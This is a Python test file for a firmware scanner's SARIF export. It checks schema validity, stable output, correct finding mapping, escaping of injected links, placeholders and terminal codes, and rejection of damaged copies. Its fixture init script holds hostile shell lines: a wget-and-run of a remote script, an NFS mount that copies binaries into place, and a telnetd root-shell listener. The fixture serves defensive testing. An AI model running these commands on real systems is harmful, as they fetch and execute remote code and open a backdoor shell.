"""Why: exports are read by other people's tools, so an outside validator decides whether they are well formed; and it must refuse a
broken copy, or its yes would mean nothing."""
import copy
import json
import os
import pathlib
import subprocess
import sys
import tempfile
import unittest

try:
    import jsonschema
except ImportError:
    jsonschema = None

BIOPSY = os.environ["BIOPSY"]
ROOT = pathlib.Path(__file__).resolve().parent.parent
SCHEMAS = pathlib.Path(os.environ.get("BIOPSY_SHARED", ROOT.parent / "shared")) / "schemas"
HOSTILE = """wget -O /tmp/a "http://203.0.113.9/[click](http://198.51.100.9) {0} \x1b[2J" && sh /tmp/a
mount -t nfs 203.0.113.9:/pm /mnt
cp -rf /mnt/* /opt/bin
telnetd -l /bin/sh \udcff\udcfe
"""


@unittest.skipUnless(jsonschema, "needs python3-jsonschema")
class Sarif(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        schema = SCHEMAS / "sarif-2.1.0.schema.json"
        if not schema.exists():
            raise unittest.SkipTest("needs shared schemas: sarif-2.1.0.schema.json")
        cls.validator = jsonschema.Draft4Validator(json.loads(schema.read_text()))
        with tempfile.TemporaryDirectory() as folder:
            root = pathlib.Path(folder) / "device"
            (root / "etc/init.d").mkdir(parents=True)
            (root / "opt/bin").mkdir(parents=True)
            (root / "opt/bin/vitals").write_text("#!/bin/sh\necho run\n")
            script = root / "etc/init.d/S50 odd%name"
            script.write_bytes(b"#!/bin/sh\n" + HOSTILE.encode("utf-8", "surrogateescape"))
            script.chmod(0o755)
            run = lambda kind: subprocess.run([BIOPSY, "scan", str(root), "--format", kind, "-q"], capture_output=True, timeout=60).stdout
            cls.bytes, cls.again = run("sarif"), run("sarif")
            cls.sarif, cls.result = json.loads(cls.bytes), json.loads(run("json"))

    def test_valid_and_the_same_each_time(self):
        self.assertEqual([error.message for error in self.validator.iter_errors(self.sarif)], [])
        self.assertEqual(self.bytes, self.again)

    def test_it_holds_every_finding_with_its_id_level_and_place(self):
        results = self.sarif["runs"][0]["results"]
        self.assertGreaterEqual(len(results), 2)
        self.assertEqual([r["partialFingerprints"]["biopsyFindingId/v1"] for r in results], [f["id"] for f in self.result["findings"]])
        rules = self.sarif["runs"][0]["tool"]["driver"]["rules"]
        for mine, finding in zip(results, self.result["findings"]):
            self.assertEqual(rules[mine["ruleIndex"]]["id"], finding["rule"])
            self.assertEqual(mine["level"], {"critical": "error", "high": "error", "medium": "warning"}.get(finding["severity"], "note"))
            self.assertTrue(mine["locations"])

    def test_a_firmware_makes_no_link_and_no_placeholder(self):
        for mine in self.sarif["runs"][0]["results"]:
            texts = [mine["message"]["text"]] + [step["location"]["message"]["text"] for flow in mine["codeFlows"] for step in flow["threadFlows"][0]["locations"]]
            for text in texts:
                self.assertNotRegex(text, r"(?<!\\)\[click")
                self.assertNotRegex(text, r"(?<!\{)\{0\}(?!\})")
                self.assertNotIn("\x1b", text)
        self.assertIn("%20odd%25name", json.dumps(self.sarif))

    def test_broken_copies_are_refused(self):
        damages = {
            "no version": lambda s: s.pop("version"),
            "no driver": lambda s: s["runs"][0]["tool"].pop("driver"),
            "a level that is none": lambda s: s["runs"][0]["results"][0].update(level="dire"),
            "a line before the first": lambda s: s["runs"][0]["results"][0]["codeFlows"][0]["threadFlows"][0]["locations"][0]["location"]["physicalLocation"]["region"].update(startLine=0),
            "a message without text": lambda s: s["runs"][0]["results"][0].update(message={"words": "x"}),
        }
        for name, change in damages.items():
            with self.subTest(name):
                broken = copy.deepcopy(self.sarif)
                change(broken)
                self.assertFalse(self.validator.is_valid(broken))


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
